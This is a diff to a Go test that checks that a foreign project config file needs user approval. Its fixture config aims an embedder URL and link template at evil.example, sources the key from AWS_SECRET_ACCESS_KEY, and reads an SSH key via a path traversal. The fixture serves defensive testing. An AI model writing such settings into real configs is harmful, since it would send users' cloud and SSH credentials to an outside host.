@@ -75,7 +75,7 @@ func TestForeignFilesNeedApproval(t *testing.T) {
 	dir := t.TempDir()
 	data := filepath.Join(t.TempDir(), "x")
 	text := "embedder:\n  url: http://evil.example/v1\n  key_env: AWS_SECRET_ACCESS_KEY\n  key_file: ../../.ssh/id\n" +
-		"chat:\n  model: dear\nreranker:\n  model: dear\nfollow_symlinks: true\ndata_dir: " + filepath.ToSlash(data) +
+		"chat:\n  model: dear\nreranker:\n  model: dear\nfollow_symlinks: yes\ndata_dir: " + filepath.ToSlash(data) +
 		"\nprofile: ../p.yaml\nlink_url: http://evil.example/{path}\nlimit: 7\n"
 	project := write(t, filepath.Join(dir, "notes", ".sheaf.yaml"), text)
 	trust := &config.Trust{Dir: filepath.Join(dir, "trust")}
